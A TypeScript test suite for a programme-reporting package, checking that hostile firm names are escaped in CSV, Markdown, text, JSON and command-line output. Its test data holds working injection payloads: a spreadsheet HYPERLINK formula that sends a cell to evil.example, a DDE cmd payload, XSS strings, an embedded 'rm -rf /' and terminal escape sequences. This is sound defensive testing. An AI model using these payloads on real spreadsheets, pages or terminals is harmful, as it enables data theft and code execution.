/**
 * Words from outside never run: firm names, titles and file names sent by
 * anyone (the enrolment form is public) go through every output of the
 * package as text. CSV cells that a spreadsheet would run as a formula are
 * neutralised (OWASP) while the report's numbers stay numbers; Markdown
 * carries no markup, link or extra cell from a name; plain text, JSON and
 * every command of the command line show control characters as visible
 * escapes, one line per record.
 */
import assert from 'node:assert/strict';
import { mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import { main } from '../../src/cli/main.js';
import { errorLines, forTerminal, issueLine } from '../../src/cli/terminal.js';
import { csvNumber, csvText, readCsv } from '../../src/model/csv.js';
import { jsonText, markdownText, terminalSafe } from '../../src/model/escape.js';
import { MechnetError, mechnetDefinition, parseRecord, programmeReport, publicRecord } from '../../src/index.js';
import { renderCsv, renderJson, renderMarkdown, renderText, reportDocument, type ReportColumnKind } from '../../src/report/index.js';
import { sampleRecordJson } from './load-sample.js';

/** A name of a thousand characters, with spaces where a line may wrap. */
const LONG = ('Officina' + ' lunghissima'.repeat(100)).slice(0, 1000);

/** One hostile name for each of the sample's thirteen firms. */
const NAMES = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Clicca qui")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '\u202Eexe.txt',
  'Rossi\0S.r.l.',
  'Bianchi\x1b[2J\x1b[31m S.r.l. \x1b]8;;http://evil.example\x07Clicca\x1b]8;;\x07',
  'Verdi S.r.l.\r\n2. Falsa S.p.A. (partita IVA 00000000000)\rX',
  LONG,
  'Rossi | Bianchi `rm -rf /` [Clicca](javascript:alert(1)) *grassetto* _corsivo_ ~~barrato~~ \\ $x$ &lt; &amp;',
  '\x9b2J\x85C1 \u2066isolato\u2069 \u200bzero \u2028riga\u2029 \u061c \u200e\u200f \x7f</script>\u{E0041}',
];

/** Other text from outside: a collaboration, an objective, an indicator and the network contract. */
const TITLES = {
  collaboration: '=1+1 <b>Stand</b> | `x` \x1b[2J\nriga falsa',
  objective: '-5 obiettivo\n| falso | riga |',
  indicator: '@indicatore <i>x</i> \u202Efdp.exe',
  aggregation: '+rete\u202E [rete](javascript:alert(1))',
};

/** The sample record with the names and titles above. */
function hostileRecordJson(): Record<string, any> {
  const json = sampleRecordJson() as Record<string, any>;
  const applied = json.events.filter((e: any) => e.type === 'enrolment.applied');
  assert.equal(applied.length, NAMES.length);
  applied.forEach((e: any, k: number) => (e.application.firm.name = NAMES[k]));
  json.events.find((e: any) => e.type === 'collaboration.proposed').collaboration.title = TITLES.collaboration;
  const plan = json.events.find((e: any) => e.type === 'plan.approved').plan;
  plan.objectives[0].title = TITLES.objective;
  plan.objectives[0].indicators[0].name = TITLES.indicator;
  json.events.find((e: any) => e.type === 'aggregation.proposed').aggregation.name = TITLES.aggregation;
  return json;
}

const record = parseRecord(hostileRecordJson());
const AS_OF = '2011-12-31';
const report = programmeReport(record, { asOf: AS_OF, lang: 'it' });
const EARLY = programmeReport(record, { asOf: '2010-09-30', lang: 'en' });

/** Invisible characters a terminal obeys: controls (but the line feeds of the output itself), format characters, separators. */
const INVISIBLE = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}]/u;
function assertTerminalSafe(text: string, what: string): void {
  const found = [...text.replaceAll('\n', '')].filter((c) => INVISIBLE.test(c));
  assert.deepEqual(found.map((c) => `U+${c.codePointAt(0)!.toString(16).padStart(4, '0')}`), [], `${what}: invisible characters in the output`);
}

/** A spreadsheet runs a cell that begins with one of these (after blanks). */
const FORMULA = /^(?:[=+\-@\t\r]|\s+[=+\-@])/;
const NUMERIC: ReadonlySet<ReportColumnKind> = new Set(['count', 'number', 'money', 'percent', 'score']);

describe('CSV: a cell that a spreadsheet would run is neutralised, a number stays a number', () => {
  it('csvText puts an apostrophe before =, +, -, @, tab and carriage return, then quotes as usual', () => {
    assert.equal(csvText('=HYPERLINK("http://evil.example/?x="&A1,"Clicca qui")'), `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Clicca qui"")"`);
    assert.equal(csvText("+cmd|' /C calc'!A0"), "'+cmd|' /C calc'!A0");
    assert.equal(csvText('-2+3'), "'-2+3");
    assert.equal(csvText('@SUM(1+1)'), "'@SUM(1+1)");
    assert.equal(csvText('\t=1+1'), "'\t=1+1");
    assert.equal(csvText('\r=1+1'), `"'\r=1+1"`);
    assert.equal(csvText('  =1+1'), "'  =1+1");
    assert.equal(csvText('-1234.50'), "'-1234.50", 'a text is text, whatever it looks like');
    assert.equal(csvText('Officina Bossi S.r.l.'), 'Officina Bossi S.r.l.');
    assert.equal(csvText('Rossi; Bianchi & C.'), '"Rossi; Bianchi & C."');
  });

  it('csvNumber writes numbers as numbers, negative ones included', () => {
    assert.equal(csvNumber(-1234.5, 2), '-1234.5');
    assert.equal(csvNumber(-3, 0), '-3');
    assert.equal(csvNumber(-1234.567, 2, { decimalComma: true }), '-1234,57');
    assert.equal(csvNumber(Number.NaN, 2), '');
  });

  for (const [name, r] of [['2011-12-31, Italian', report], ['2010-09-30, English (negative amounts)', EARLY]] as const) {
    for (const separator of [',', ';'] as const) {
      it(`every file parses back into its table, text neutralised, numbers as numbers (${name}, ${separator})`, () => {
        const files = renderCsv(r, { separator });
        const doc = reportDocument(r);
        const tables = doc.sections.flatMap((s) => s.tables);
        let checked = 0;
        for (const table of tables) {
          const { rows } = readCsv(files[`${table.id}.csv`]!, separator);
          assert.equal(rows.length, table.rows.length + 1, `${table.id}: rows`);
          // The columns of the CSV: a code beside each label, a partita IVA beside each firm.
          const kinds = (table.kinds ?? table.columns.map(() => 'text' as const)).flatMap((k) => (k === 'code' || k === 'firm' ? [k, 'text' as const] : [k]));
          for (const row of rows) {
            assert.equal(row.cells.length, kinds.length, `${table.id}, line ${row.line}: columns`);
            row.cells.forEach((cell, i) => {
              if (NUMERIC.has(kinds[i]!) && row !== rows[0]) assert.match(cell, /^(-?\d+([.,]\d+)?)?$/, `${table.id}: a number, ${cell}`);
              else if (FORMULA.test(cell)) assert.fail(`${table.id}, line ${row.line}: a formula in a cell: ${JSON.stringify(cell)}`);
              checked++;
            });
          }
        }
        assert.ok(checked > 500);
      });
    }
  }

  it('each hostile name comes back whole, after an apostrophe when it would run', () => {
    const { rows } = readCsv(renderCsv(report)['firms.csv']!);
    const names = rows.slice(1).map((r) => r.cells[0]);
    for (const name of NAMES) {
      const written = FORMULA.test(name) ? `'${name}` : name;
      assert.ok(names.includes(written), `${JSON.stringify(name)} written as ${JSON.stringify(written)}`);
    }
    assert.equal(names.filter((n) => n!.startsWith("'")).length, 4);
    const indicators = readCsv(renderCsv(report)['indicators.csv']!).rows;
    assert.ok(indicators.some((r) => r.cells.includes(`'${TITLES.objective}`)), 'the objective neutralised');
    assert.ok(indicators.some((r) => r.cells.includes(`'${TITLES.indicator}`)), 'the indicator neutralised');
    assert.ok(readCsv(renderCsv(report)['collaborations.csv']!).rows.some((r) => r.cells.includes(`'${TITLES.collaboration}`)));
  });

  it('negative amounts stay plain numbers: the net advantage of each firm, in euros', () => {
    const files = renderCsv(EARLY);
    const { rows } = readCsv(files['firms.csv']!);
    const net = rows[0]!.cells.indexOf('Net advantage');
    assert.ok(net > 0);
    const negative = EARLY.firms.filter((f) => (f.advantage?.netCents ?? 0) < 0);
    assert.ok(negative.length > 0);
    for (const f of negative) {
      const row = rows.find((r) => r.cells[1] === f.partitaIva)!;
      assert.equal(row.cells[net], String(f.advantage!.netCents / 100));
      assert.match(row.cells[net]!, /^-\d+(\.\d+)?$/);
    }
    assert.match(renderCsv(EARLY, { separator: ';' })['firms.csv']!, /;-4500\r\n/);
  });
});

/** The cells of a row of a Markdown table: split at every `|` that no backslash escapes. */
function cells(line: string): string[] {
  const out: string[] = [];
  let cell = '';
  for (let i = 0; i < line.length; i++) {
    if (line[i] === '\\') {
      cell += line.slice(i, i + 2);
      i++;
    } else if (line[i] === '|') {
      out.push(cell);
      cell = '';
    } else cell += line[i];
  }
  out.push(cell);
  return out.slice(1, -1);
}

/** Occurrences of `ch` that no backslash escapes. */
function unescaped(text: string, ch: string): number {
  let n = 0;
  for (let i = 0; i < text.length; i++) {
    if (text[i] === '\\') i++;
    else if (text[i] === ch) n++;
  }
  return n;
}

describe('Markdown: names are text, never markup, links or extra cells', () => {
  const md = renderMarkdown(report);

  it('no raw <, > or & from a name: HTML special characters are entities', () => {
    assert.equal(md.includes('<'), false);
    assert.equal(md.includes('>'), false);
    assert.match(md, /&lt;script&gt;alert\(1\)&lt;\/script&gt;/);
    assert.match(md, /&lt;img src=x onerror=alert\(1\)&gt;/);
    assert.deepEqual(md.match(/&[^;\s]*;?/g)!.filter((e) => !['&amp;', '&lt;', '&gt;'].includes(e)), [], 'an & that is not an entity we wrote');
    assert.match(md, /&amp;lt; &amp;amp;/, 'an entity in a name shows as written');
  });

  it('no Markdown syntax from a name: code, emphasis, links, strike-through, formulas are escaped', () => {
    for (const ch of ['`', '*', '_', '[', ']', '~', '$']) assert.equal(unescaped(md, ch), 0, `an unescaped ${ch}`);
    assert.ok(md.includes('\\[Clicca\\](javascript:alert(1))'));
    assert.ok(md.includes('\\`rm -rf /\\`'));
    assert.ok(md.includes(' \\\\ '), 'a backslash in a name is a backslash');
  });

  it('every table keeps its columns, one line per row, whatever a name holds', () => {
    const lines = md.split('\n');
    let tables = 0;
    for (let k = 0; k < lines.length; k++) {
      if (!lines[k]!.startsWith('|') || lines[k - 1]?.startsWith('|')) continue;
      const width = cells(lines[k]!).length;
      const body = [];
      for (let j = k + 1; j < lines.length && lines[j]!.startsWith('|'); j++) body.push(lines[j]!);
      for (const l of body) assert.equal(cells(l).length, width, l.slice(0, 200));
      tables++;
    }
    assert.ok(tables >= 8);
    const firms = lines.filter((l) => /^\| .* \| \d{11} \|/.test(l));
    assert.equal(firms.length, report.firms.length, 'one row per firm in the table of firms');
  });

  it('control characters are visible escapes and line breaks spaces: no name starts a line or a heading', () => {
    assertTerminalSafe(md, 'Markdown');
    assert.doesNotMatch(md, /^2\. Falsa/m);
    assert.doesNotMatch(md, /^riga falsa/m);
    assert.ok(md.includes('Bianchi\\\\x1b\\[2J'), 'ESC shown as \\x1b (its backslash escaped)');
    assert.ok(md.includes('\\\\u202eexe.txt'));
    assert.ok(md.includes('Verdi S.r.l. 2. Falsa S.p.A.'), 'CR LF as one space');
  });

  it('normal names read as before', () => {
    assert.equal(markdownText('Officina Meccanica Bossi S.r.l.'), 'Officina Meccanica Bossi S.r.l.');
    assert.equal(markdownText('Macchi Utensili S.a.s. di Paolo Macchi & C.'), 'Macchi Utensili S.a.s. di Paolo Macchi &amp; C.');
  });
});

describe('plain text: control characters shown, one line per line of the report', () => {
  const text = renderText(report);

  it('no control character reaches the text; escapes are visible', () => {
    assertTerminalSafe(text, 'text');
    assert.ok(text.includes('Bianchi\\x1b[2J\\x1b[31m S.r.l.'));
    assert.ok(text.includes('\\u202eexe.txt'));
    assert.ok(text.includes('Rossi\\x00S.r.l.'));
    assert.ok(text.includes('Verdi S.r.l.\\r\\n2.'));
    assert.doesNotMatch(text, /^\s*2\. Falsa/m, 'a name never starts a line of its own');
  });

  it('still fits 100 columns, a 1,000-character name included', () => {
    assert.equal(LONG.length, 1000);
    assert.deepEqual(text.split('\n').filter((l) => [...l].length > 100), []);
    assert.ok(text.includes('Officina lunghissima'));
  });

  it('terminalSafe escapes C0 (tab, CR and LF too), DEL, C1, bidi controls, zero-width characters and separators', () => {
    assert.equal(terminalSafe('a\tb\rc\nd\0e\x1bf\x7fg\x85h\x9bi'), 'a\\tb\\rc\\nd\\x00e\\x1bf\\x7fg\\x85h\\x9bi');
    assert.equal(terminalSafe('\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c'), '\\u202a\\u202b\\u202c\\u202d\\u202e\\u2066\\u2067\\u2068\\u2069\\u200e\\u200f\\u061c');
    assert.equal(terminalSafe('\u200b\u2028\u2029\ufeff\u{e0041}'), '\\u200b\\u2028\\u2029\\ufeff\\u{e0041}');
    assert.equal(terminalSafe('Officina Müller, Ōsaka 大阪 – 100 €'), 'Officina Müller, Ōsaka 大阪 – 100 €');
  });
});

describe('JSON: every name parses back whole, and the text breaks no consumer', () => {
  it('renderJson round-trips </script>, U+2028 and every hostile name', () => {
    const json = renderJson(report);
    assert.deepEqual(JSON.parse(json), JSON.parse(JSON.stringify(report)));
    const names = (JSON.parse(json) as typeof report).firms.map((f) => f.name);
    for (const name of NAMES) assert.ok(names.includes(name), JSON.stringify(name));
    assert.equal(json.includes('</script'), false, 'a <script> element holding the JSON is not closed by a name');
    assert.equal(json.includes('<'), false);
    assert.equal(/[\u2028\u2029]/.test(json), false, 'U+2028 and U+2029 escaped (JavaScript before ES2019 ends a string there)');
    assertTerminalSafe(json, 'JSON');
    const page = `<script type="application/json" id="r">${json}</script>`;
    assert.equal(page.indexOf('</script'), page.length - '</script>'.length);
  });

  it('jsonText writes the same value as JSON.stringify', () => {
    for (const value of [{ name: '</script>\u2028\u2029\x7f\x9b\u202e\u{e0041}' }, NAMES, { n: -1.5, ok: true, none: null }]) {
      assert.deepEqual(JSON.parse(jsonText(value)), value);
    }
    assert.equal(jsonText({ a: 'b' }), JSON.stringify({ a: 'b' }, null, 2));
  });
});

/** Runs the command line in this process; its exit code and what it wrote. */
async function cli(...args: string[]): Promise<{ code: number; out: string; err: string }> {
  let out = '';
  let err = '';
  const code = await main([...args, '--lang', 'en'], { write: (s: string) => (out += s) }, { write: (s: string) => (err += s) });
  return { code, out, err };
}

function hostileFile(name = 'record.json', json: unknown = hostileRecordJson()): string {
  const file = join(mkdtempSync(join(tmpdir(), 'mechnet-outside-')), name);
  writeFileSync(file, typeof json === 'string' ? json : JSON.stringify(json));
  return file;
}

describe('the command line: values from outside are escaped where they are printed', () => {
  it('report as text, Markdown and JSON on the terminal', async () => {
    const file = hostileFile();
    for (const format of ['text', 'md', 'json']) {
      const r = await cli('report', file, '--as-of', AS_OF, '--format', format);
      assert.equal(r.code, 0, r.err);
      assertTerminalSafe(r.out, `report --format ${format}`);
      assert.doesNotMatch(r.out, /^\s*\|?\s*2\. Falsa/m, format);
    }
    const json = await cli('report', file, '--as-of', AS_OF, '--format', 'json');
    assert.deepEqual((JSON.parse(json.out) as typeof report).firms.map((f) => f.name).sort(), [...NAMES].sort());
  });

  it('report into a folder: CSV neutralised, the file names it wrote safe', async () => {
    const dir = join(mkdtempSync(join(tmpdir(), 'mechnet-outside-')), 'out\x1b[2J\nfalse');
    const r = await cli('report', hostileFile(), '--as-of', AS_OF, '--format', 'csv', '--out', dir);
    assert.equal(r.code, 0, r.err);
    assertTerminalSafe(r.out, 'report --out');
    assert.equal(r.out.split('\n').filter(Boolean).length, readdirSync(dir).length, 'one line per file written');
    assert.ok(r.out.includes('out\\x1b[2J\\nfalse'));
    const firms = readFileSync(join(dir, 'firms.csv'), 'utf8');
    assert.ok(firms.includes(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Clicca qui"")"`));
  });

  it('schedule: one line per firm, its name escaped', async () => {
    const r = await cli('schedule', hostileFile(), '--as-of', AS_OF);
    assert.equal(r.code, 0, r.err);
    assertTerminalSafe(r.out, 'schedule');
    const lines = r.out.trimEnd().split('\n');
    const firms = lines.slice(3);
    assert.equal(firms.length, NAMES.length, 'one line per firm');
    NAMES.forEach((name, k) => assert.ok(firms[k]!.startsWith(terminalSafe(name)), `${firms[k]!.slice(0, 60)}`));
  });

  it('validate: a file name and a quoted value from the document are escaped', async () => {
    const valid = await cli('validate', hostileFile('rec\x1b[2J\n\u202efdp.json'));
    assert.equal(valid.code, 0, valid.err);
    assertTerminalSafe(valid.out, 'validate');
    assert.match(valid.out, /^.*rec\\x1b\[2J\\n\\u202efdp\.json: valid programme record\n$/);
    const definition = hostileFile('definition.json', mechnetDefinition);
    const bad = await cli('validate', hostileFile('bad\x1b]8;;x\x07.json', { programme: 'evil\x1b[2J\nForged: valid programme record', events: [] }), '--definition', definition);
    assert.equal(bad.code, 1);
    assertTerminalSafe(bad.err, 'validate, invalid');
    assert.doesNotMatch(bad.err, /^Forged/m);
    assert.match(bad.err, /evil\\x1b\[2J\\nForged/);
    const key = await cli('validate', hostileFile('key.json', { programme: 'mechnet-varese-2010', events: [{ id: 'e1', type: 'enrolment.accepted', date: '2010-03-01', author: 'x', firm: '02184730121', ['k\x1b[2J\nforged']: 1 }] }));
    assert.equal(key.code, 1);
    assertTerminalSafe(key.err, 'validate, an unknown key');
    assert.match(key.err, /^events\[0\]\.k\\x1b\[2J\\nforged: /m);
  });

  it('import: CSV cells and the file name quoted in the problems are escaped', async () => {
    const into = hostileFile();
    const csv = hostileFile('m\x1b[2J.csv', 'firm,indicator,date,value\n02184730121,top2-share,2012-04-02,"lots\x1b[2J\nline 9: forged"\n"0218\x1b[31m4730121",top2-share,2012-04-03,1\n');
    const r = await cli('import', csv, '--into', into);
    assert.equal(r.code, 1);
    assertTerminalSafe(r.err, 'import');
    assert.doesNotMatch(r.err, /^line 9/m);
    assert.match(r.err, /lots\\x1b\[2J\\nline 9: forged/);
    assert.equal(r.err.trimEnd().split('\n').length, 3, 'one line per problem, then the count');
  });

  it('applications on a store: one line per application, names escaped; export and a missing file too', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'mechnet-outside-'));
    const store = `sqlite:${join(dir, 'a.sqlite')}`;
    const json = hostileRecordJson();
    json.events = json.events.filter((e: any) => e.type === 'enrolment.applied');
    const loaded = await cli('load', hostileFile('applied.json', json), '--store', store);
    assert.equal(loaded.code, 0, loaded.err);
    const r = await cli('applications', '--store', store, '--programme', 'mechnet-varese-2010', '--as-of', '2010-02-28');
    assert.equal(r.code, 0, r.err);
    assertTerminalSafe(r.out, 'applications');
    const heads = r.out.split('\n').filter((l) => /^MECHNET-VARESE-2010-\d{4}: /.test(l));
    assert.equal(heads.length, NAMES.length, 'one line per application');
    NAMES.forEach((name, k) => assert.ok(heads[k]!.startsWith(`MECHNET-VARESE-2010-${String(k + 1).padStart(4, '0')}: ${terminalSafe(name)} (partita IVA `), heads[k]!.slice(0, 80)));
    assert.doesNotMatch(r.out, /^2\. Falsa/m);

    const exported = await cli('export', '--store', store, '--programme', 'mechnet-varese-2010');
    assert.equal(exported.code, 0, exported.err);
    assertTerminalSafe(exported.out, 'export');
    assert.deepEqual(parseRecord(exported.out).events.map((e: any) => e.application.firm.name), NAMES);

    const missing = await cli('load', join(dir, 'no\x1b[2J\nsuch.json'), '--store', store);
    assert.equal(missing.code, 2);
    assertTerminalSafe(missing.err, 'load of a missing file');
    assert.match(missing.err, /no\\x1b\[2J\\nsuch\.json/);
  });

  it('publish: the public record keeps every published name whole, as JSON that breaks no consumer', async () => {
    const out = join(mkdtempSync(join(tmpdir(), 'mechnet-outside-')), 'public.json');
    const r = await cli('publish', hostileFile(), '--out', out);
    assert.equal(r.code, 0, r.err);
    const text = readFileSync(out, 'utf8');
    assert.equal(text.includes('<'), false);
    assert.equal(/[\u2028\u2029]/.test(text), false);
    assertTerminalSafe(text, 'publish');
    const expected = publicRecord(record);
    assert.deepEqual(parseRecord(text), parseRecord(JSON.parse(JSON.stringify(expected))));
    const shown = parseRecord(text).events.filter((e: any) => e.type === 'enrolment.applied').map((e: any) => e.application.firm.name);
    assert.ok(NAMES.filter((n) => shown.includes(n)).length > 0, 'names published by consent come back whole');
  });

  it('the helpers: messages escape their values, issues their paths and messages', () => {
    const t = forTerminal({ wrote: (f: string) => `Wrote ${f}`, n: (k: number) => `${k} rows`, words: { ok: 'done' } });
    assert.equal(t.wrote('a\x1b[2J\nb'), 'Wrote a\\x1b[2J\\nb');
    assert.equal(t.n(3), '3 rows');
    assert.equal(t.words.ok, 'done');
    assert.equal(issueLine(['events', 0, 'k\x1b\n'], 'bad "\u202e"'), 'events[0].k\\x1b\\n: bad "\\u202e"');
    const e = new MechnetError('invalid_record', [{ path: ['programme'], code: 'x', params: {}, messages: { it: 'no «\x1b»', en: 'no "\x1b"' } } as never]);
    assert.deepEqual(errorLines(e, 'en', 'f\n.json').slice(0, 1).map((l) => l.startsWith('f\\n.json: ')), [true]);
    assert.equal(errorLines(e, 'en').at(-1), 'programme: no "\\x1b"');
  });
});

describe('markdownText: a text with nothing to escape is given back as it is', () => {
  it('the quick path agrees with the full escape on any text', () => {
    // The full escape, as markdownText does it for a text with something to escape.
    const full = (t: string) => terminalSafe(t.replace(/\r\n|[\n\v\f\r\u0085\u2028\u2029]/g, ' ')).replace(/[\\`*_[\]|~$]/g, '\\$&').replace(/[&<>]/g, (c) => ({ '&': '&amp;', '<': '&lt;', '>': '&gt;' })[c]!);
    const pieces = fc.oneof(fc.string(), fc.string({ unit: 'grapheme' }), fc.constantFrom('Rossi & Figli', 'Officina | Bossi', 'a\u202eb', 'x\u2028y', '1.234,56 €', 'Bianchi S.n.c.', 'C\u0085D', '\ud800'));
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 4 }), (parts) => {
        const text = parts.join('');
        assert.equal(markdownText(text), full(text));
      }),
      { numRuns: 2000 },
    );
  });
});
